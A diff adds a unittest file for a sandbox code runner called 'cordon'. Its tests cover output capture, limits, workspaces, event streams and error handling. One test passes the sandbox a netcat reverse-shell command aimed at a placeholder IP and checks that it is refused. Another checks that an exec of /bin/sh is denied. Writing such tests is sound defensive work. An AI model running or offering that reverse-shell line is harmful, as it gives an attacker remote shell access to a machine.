@@ -1,0 +1,206 @@
+# SPDX-License-Identifier: MIT
+"""A run, from its code to its result."""
+import os
+import pathlib
+import unittest
+
+import cordon
+from support import BINARY, TIER, Case, children, descriptors
+
+
+class Run(Case):
+    def test_result(self):
+        """what it printed, how it ended, what was decided"""
+        r = self.client().run("import sys\nprint('h\u00e9')\nprint('oh', file=sys.stderr)\nsys.exit(3)")
+        self.assertEqual((r.status, r.exit_code, r.signal, r.ok), ("exited", 3, None, False))
+        self.assertEqual((r.stdout, r.text, r.stderr, r.errors), ("h\u00e9\n".encode(), "h\u00e9\n", b"oh\n", "oh\n"))
+        self.assertEqual((r.tier, r.origin, r.verdict), (TIER, "user", "allow"))
+        self.assertIn("seccomp", r.layers)
+        self.assertIn("compute", r.granted)
+        self.assertTrue(r.audit_id.startswith("run:"))
+        self.assertGreater(r.usage.memory_peak, 0)
+        self.assertFalse(r.truncated)
+        self.assertIs(r.error, None)
+
+    def test_everything(self):
+        """arguments, input, variables and bytes arrive as they are"""
+        code = "import os, sys\nsys.stdout.buffer.write(repr((sys.argv[1:], os.environ['K'])).encode() + sys.stdin.buffer.read())"
+        data = bytes(range(256)) * 1000
+        args = ["--json", "-", "--", "a b", "\u20ac", ""]
+        r = self.client().run(code, args=args, env={"K": "v=1"}, input=data)
+        self.assertEqual(r.stdout, repr((args, "v=1")).encode() + data)
+
+    def test_code(self):
+        """code is never an argument: large, from the future, with right line numbers"""
+        code = "from __future__ import annotations\n" + "# " + "x" * 300000 + "\n1 / 0\n"
+        r = self.client().run(code)
+        self.assertIn("line 3", r.errors)
+        self.assertIn("ZeroDivisionError", r.errors)
+        r = self.client().run("print(open('/proc/1/cmdline').read() if False else open('/proc/self/cmdline').read())")
+        self.assertNotIn("print", r.text)
+
+    def test_languages(self):
+        """bash, and a file whose name tells"""
+        self.assertEqual(self.client().run("echo $((6 * 7))", lang="bash").text, "42\n")
+        path = pathlib.Path(self.path("-x.py"))
+        path.write_text("print(__name__)")
+        self.addCleanup(os.chdir, os.getcwd())
+        os.chdir(self.dir)
+        self.assertEqual(self.client().run(path).text, "__main__\n")
+        self.assertEqual(self.client().run(pathlib.Path("-x.py")).text, "__main__\n")
+        self.assertTrue(self.client().run(pathlib.Path("/bin/true"), lang="binary").ok)
+
+    def test_binary(self):
+        """output that is no text"""
+        r = self.client().run("import os\nos.write(1, bytes(range(256)))\nos.write(2, b'\\xff')")
+        self.assertEqual((r.stdout, r.stderr), (bytes(range(256)), b"\xff"))
+        self.assertTrue(r.text.endswith("\\xfe\\xff"))
+
+    def test_much(self):
+        """10 MB of output: all of it, or the ends and how much is missing"""
+        code = "import sys\nfor i in range(1310720): sys.stdout.write('%07d\\n' % i)"
+        whole = b"".join(b"%07d\n" % i for i in range(1310720))
+        r = self.client().run(code, output="64M")
+        self.assertEqual(len(r.stdout), 10485760)
+        self.assertEqual(r.stdout, whole)
+        self.assertFalse(r.truncated)
+        seen = []
+        r = self.client().run(code, on_output=seen.append)
+        gap = r.truncated["stdout"]
+        self.assertEqual((gap.total, gap.omitted + len(r.stdout)), (10485760, 10485760))
+        self.assertEqual(len(r.stdout), 1 << 20)
+        self.assertEqual(r.stdout[:gap.at], whole[:gap.at])
+        self.assertEqual(r.stdout[gap.at:], whole[gap.at - len(r.stdout):])
+        self.assertEqual(b"".join(o.data for o in seen), r.stdout)
+        self.assertEqual(sum(o.omitted for o in seen), gap.omitted)
+
+    @unittest.skipIf(TIER == "no-userns", "no overlay")
+    def test_workspace(self):
+        """a directory: changes are told, and written back when that is asked for"""
+        os.mkdir(self.path("w"))
+        if os.getuid() == 0:
+            os.chmod(self.dir, 0o755)
+        code = "open('new', 'w').write('x' * 5)"
+        r = self.client().run(code, workspace=self.path("w"), diff=True)
+        self.assertEqual([(c.path, c.change, c.size) for c in r.changes], [("new", "added", 5)])
+        self.assertEqual(os.listdir(self.path("w")), [])
+        r = self.client().run(code, workspace=self.path("w"), commit=True)
+        self.assertTrue(r.committed)
+        self.assertEqual(os.listdir(self.path("w")), ["new"])
+        r = self.client().run("print(open('new').read())", workspace=self.path("w"), mode="ro")
+        self.assertEqual(r.text, "xxxxx\n")
+
+    def test_events(self):
+        """what happens, as it happens"""
+        code = "import os\nprint('one', flush=True)\ntry:\n os.execv('/bin/sh', ['sh'])\nexcept OSError: pass\nprint('two')"
+        told = []
+        r = self.client().run(code, on_event=told.append)
+        kinds = [e.kind for e in told]
+        self.assertEqual((kinds[0], kinds[-1]), ("started", "result"))
+        self.assertLess(kinds.index("denial"), len(kinds) - 1)
+        refusal = next(e for e in told if e.kind == "denial")
+        self.assertEqual((refusal.call, refusal.target), ("execve", "/bin/sh"))
+        self.assertEqual(told[0].audit_id, r.audit_id)
+        self.assertEqual(told[-1].result, r)
+        again = list(self.client().stream(code))
+        self.assertEqual({e.kind for e in again}, set(kinds))
+        self.assertEqual(b"".join(e.data for e in again if isinstance(e, cordon.Output)), b"one\ntwo\n")
+        self.assertEqual(again[-1].result.text, "one\ntwo\n")
+
+    def test_live(self):
+        """an iterator has the first line while the program still runs; who leaves it ends the run"""
+        before = descriptors()
+        events = self.client().stream("import time\nprint('on', flush=True)\ntime.sleep(1000)", time=900)
+        for e in events:
+            if isinstance(e, cordon.Output):
+                break
+        self.assertEqual(len(children()), 1)
+        events.close()
+        self.assertEqual(children(), [])
+        self.assertEqual(descriptors(), before)
+
+    def test_callback(self):
+        """an error in a callback ends the run and comes out"""
+        def fail(event):
+            raise ZeroDivisionError
+        before = descriptors()
+        with self.assertRaises(ZeroDivisionError):
+            self.client().run("print(1, flush=True)\nwhile True: pass", on_output=fail)
+        self.assertEqual((children(), descriptors()), ([], before))
+
+
+class Errors(Case):
+    def test_refused(self):
+        """refused: the reason is the CLI's"""
+        with self.assertRaises(cordon.Refused) as e:
+            self.client(origin=None).run("import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')")
+        self.assertIn("CORDON-2026-0001", str(e.exception))
+        self.assertEqual(e.exception.result.verdict, "deny")
+        self.assertEqual(e.exception.result.origin, "hostile")
+        self.assertIn("CORDON-2026-0001", [h.id for h in e.exception.result.rules])
+        self.assertTrue(e.exception.reasons)
+
+    def test_limits(self):
+        """limits: which, and what it printed before"""
+        for code, limit, options in (("while True: pass", "time", {"time": 0.3}),
+                                     ("while True: pass", "cpu-time", {"cpu_time": "300ms"})):
+            with self.subTest(limit), self.assertRaises(cordon.LimitReached) as e:
+                self.client().run("print('first', flush=True)\n" + code, **options)
+            self.assertEqual(e.exception.limit, limit)
+            self.assertEqual(e.exception.result.text, "first\n")
+
+    def test_check(self):
+        """check=True: another status, a signal"""
+        with self.assertRaises(cordon.Failed) as e:
+            self.client().run("1 / 0", check=True)
+        self.assertIn("ZeroDivisionError", str(e.exception))
+        with self.assertRaises(cordon.Failed) as e:
+            self.client().run("import os\nos.kill(os.getpid(), 11)", check=True)
+        self.assertEqual(e.exception.result.signal, 11)
+        self.assertIn("11", str(e.exception))
+
+    def test_request(self):
+        """what is not understood is told before anything is begun, or by Cordon in its words"""
+        for options in ({"mode": "no"}, {"args": ["a\0b"]}, {"time": "5x"}, {"tier": "none"}, {"lang": "perl"},
+                        {"workspace": "/nothing"}, {"env": {"": "x"}}):
+            with self.subTest(str(options)), self.assertRaises(cordon.BadRequest):
+                self.client().run("print(1)", **options)
+        with self.assertRaises(cordon.BadRequest):
+            self.client().run(pathlib.Path("/nothing.py"))
+        with self.assertRaises(TypeError):
+            self.client().run("print(1)", memroy="1M")
+
+    def test_values(self):
+        """a value cannot pass for an option"""
+        with self.assertRaises(cordon.BadRequest):
+            self.client().run("print(1)", lang="--tier=no-userns")
+        r = self.client().run("import sys\nprint(sys.argv[1:])", args=["--tier", "no-userns"])
+        self.assertEqual((r.tier, r.text), (TIER, "['--tier', 'no-userns']\n"))
+
+    def test_isolate(self):
+        """a layer that is missing (an ordinary user has no cgroup): which, why, what to do"""
+        binary = BINARY
+        if os.getuid() == 0:
+            os.chmod(self.dir, 0o755)
+            os.chown(self.path("state"), 61000, 61000)
+            binary = self.script("exec setpriv --reuid 61000 --regid 61000 --clear-groups 'CORDON' \"$@\"")
+        with self.assertRaises(cordon.CannotIsolate) as e:
+            self.client(binary=binary, tier="full").run("print(1)")
+        self.assertEqual(e.exception.layer, "cgroup")
+        self.assertTrue(e.exception.cause and e.exception.cure)
+
+    def test_missing(self):
+        """no program, or one that cannot be started"""
+        with self.assertRaises(cordon.NotInstalled):
+            self.client(binary="/nothing/cordon").run("print(1)")
+        with self.assertRaises(cordon.CannotIsolate):
+            self.client(binary=self.dir).run("print(1)")
+        old, path = os.environ.pop("CORDON_BINARY"), os.environ["PATH"]
+        try:
+            os.environ["PATH"] = self.dir
+            with self.assertRaises(cordon.NotInstalled):
+                self.client(binary=None).run("print(1)")
+            os.symlink(BINARY, self.path("cordon"))
+            self.assertEqual(self.client(binary=None).transport.program, self.path("cordon"))
+        finally:
+            os.environ.update(CORDON_BINARY=old, PATH=path)
